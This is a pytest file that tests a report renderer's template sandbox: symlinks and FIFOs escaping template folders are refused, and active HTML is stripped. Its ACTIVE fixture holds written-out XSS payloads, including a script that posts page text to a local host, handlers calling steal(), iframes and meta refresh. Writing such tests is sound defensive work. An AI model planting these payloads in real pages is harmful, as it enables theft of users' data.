"""Escapes through templates: symlinks out of a template folder, and active content.

A canary file lies outside every template folder; no memo may ever contain it, and every
attempt is a TemplateError located at the link (or at the line that includes it).
"""

from __future__ import annotations

import os
import re
from pathlib import Path
from typing import Any

import pytest

from trustbench.errors import TemplateError
from trustbench.report import render_html

from .conftest import CANARY, with_section


def _templates(tmp_path: Path, section: str) -> Path:
    templates = tmp_path / "rules" / "us" / "templates"
    templates.mkdir(parents=True)
    (templates / "section.html.j2").write_text(section, encoding="utf-8")
    return templates


def _refused(context: dict[str, Any], **dirs: Any) -> TemplateError:
    with pytest.raises(TemplateError) as info:
        render_html(context, **dirs)
    assert CANARY not in info.value.render()
    return info.value


def test_a_section_that_is_a_symlink_out_of_the_pack(
    tmp_path: Path, canary: Path, context: dict[str, Any]
) -> None:
    templates = _templates(tmp_path, "")
    link = templates / "section.html.j2"
    link.unlink()
    link.symlink_to(canary)
    err = _refused(with_section(context), pack_dirs={"us": templates})
    assert err.render() == (
        f"{link}: error[TemplateEscape]: forbidden by the template sandbox: template "
        f"'section.html.j2' is a symlink that leaves its folder ({link} -> {canary}); "
        f"templates must resolve inside {templates}\n"
        "  hint: a template and everything it includes must be files inside its folder"
    )


def test_an_included_symlink_out_of_the_pack(
    tmp_path: Path, canary: Path, context: dict[str, Any]
) -> None:
    templates = _templates(tmp_path, '<p>a</p>\n{% include "pack/us/leak.html.j2" %}\n')
    (templates / "leak.html.j2").symlink_to(canary)
    err = _refused(with_section(context), pack_dirs={"us": templates})
    assert (err.file, err.line, err.code) == (
        str(templates / "section.html.j2"),
        2,
        "TemplateEscape",
    )
    assert "'leak.html.j2' is a symlink that leaves its folder" in err.message


def test_a_symlinked_sub_folder_out_of_the_pack(
    tmp_path: Path, canary: Path, context: dict[str, Any]
) -> None:
    templates = _templates(tmp_path, '{% include "pack/us/sub/x.html.j2" %}\n')
    (templates / "sub").symlink_to(canary.parent / "sub")
    err = _refused(with_section(context), pack_dirs={"us": templates})
    assert (err.line, err.code) == (1, "TemplateEscape")
    assert "'sub/x.html.j2' is a symlink that leaves its folder" in err.message


def test_a_templates_folder_that_is_a_symlink_out_of_the_pack(
    tmp_path: Path, canary: Path, context: dict[str, Any]
) -> None:
    pack = tmp_path / "rules" / "us"
    pack.mkdir(parents=True)
    (canary.parent / "section.html.j2").write_text(f"{CANARY}\n", encoding="utf-8")
    (pack / "templates").symlink_to(canary.parent)
    err = _refused(with_section(context), pack_dirs={"us": pack / "templates"})
    assert err.file == str(pack / "templates")
    assert "a pack's templates must lie inside the pack" in err.message


def test_a_template_dir_with_a_symlinked_partial(
    tmp_path: Path, canary: Path, context: dict[str, Any]
) -> None:
    house = tmp_path / "house"
    house.mkdir()
    (house / "_house.html.j2").symlink_to(canary)
    err = _refused(context, template_dirs=[house])
    assert err.file.endswith("_cover.html.j2") and err.line > 0  # the line that includes it
    assert "'_house.html.j2' is a symlink that leaves its folder" in err.message


def test_a_template_dir_whose_main_template_is_a_symlink(
    tmp_path: Path, canary: Path, context: dict[str, Any]
) -> None:
    house = tmp_path / "house"
    house.mkdir()
    (house / "memo.html.j2").symlink_to(canary)
    err = _refused(context, template_dirs=[house])
    assert err.file == str(house / "memo.html.j2")


def test_a_fifo_is_refused_without_blocking(tmp_path: Path, context: dict[str, Any]) -> None:
    house = tmp_path / "house"
    house.mkdir()
    os.mkfifo(house / "_house.html.j2")
    err = _refused(context, template_dirs=[house])
    assert "is not a regular file" in err.message


def test_a_symlink_that_stays_inside_is_fine(tmp_path: Path, context: dict[str, Any]) -> None:
    templates = _templates(tmp_path, "")
    (templates / "real.html.j2").write_text('<p class="pack-intro">inside</p>\n', "utf-8")
    (templates / "section.html.j2").unlink()
    (templates / "section.html.j2").symlink_to(templates / "real.html.j2")
    html = render_html(with_section(context), pack_dirs={"us": templates})
    assert '<p class="pack-intro">inside</p>' in html


# ---------------------------------------------------------------------------- active content

ACTIVE = """<p class="pack-intro" onclick="steal()">US practice {{ j.name }}</p>
<script>fetch("http://127.0.0.1:9/?d=" + document.body.innerText)</script>
<iframe src="http://127.0.0.1:9/"></iframe><object data="http://127.0.0.1:9/x"></object>
<embed src="x"><form action="http://127.0.0.1:9/"><input name="q"></form>
<img src="http://127.0.0.1:9/pixel.png" onerror="steal()">
<a href="javascript:steal()">click</a> <a href="https://example.com/ok">ok</a>
<style>body { display: none }</style><link rel="stylesheet" href="http://127.0.0.1:9/c.css">
<svg onload="steal()"><use href="http://127.0.0.1:9/s.svg#a"/></svg>
<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">
{% include "_factors.html.j2" %}
"""


def test_active_content_from_a_pack_is_removed(tmp_path: Path, context: dict[str, Any]) -> None:
    templates = _templates(tmp_path, ACTIVE)
    html = render_html(with_section(context), pack_dirs={"us": templates})
    body = html.split('<h3 id="jur-us">', 1)[1].split('<section class="jurisdiction">')[0]
    for bad in ("<script", "<iframe", "<object", "<embed", "<form", "<input", "<img", "<svg",
                "<link", "<meta", "<style", "onclick", "onerror", "onload", "javascript:",
                "127.0.0.1", "display: none"):  # fmt: skip
        assert bad not in body, bad
    assert '<p class="pack-intro">US practice United States</p>' in body  # text and class kept
    assert '<a href="https://example.com/ok">ok</a>' in body
    assert re.search(r'<h4 id="jur-us-[a-z-]+">', body)  # the standard partial still renders


def test_the_html_memo_forbids_scripts_and_network(context: dict[str, Any]) -> None:
    head = render_html(context).split("</head>", 1)[0]
    csp = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', head)
    assert csp is not None
    policy = dict(p.strip().split(" ", 1) for p in csp.group(1).split(";"))
    assert policy["default-src"] == "'none'"  # no script, font, frame, connect, object
    assert policy["img-src"] == "data:"
    assert policy["style-src"] == "'unsafe-inline'"
    assert "script-src" not in policy and "connect-src" not in policy
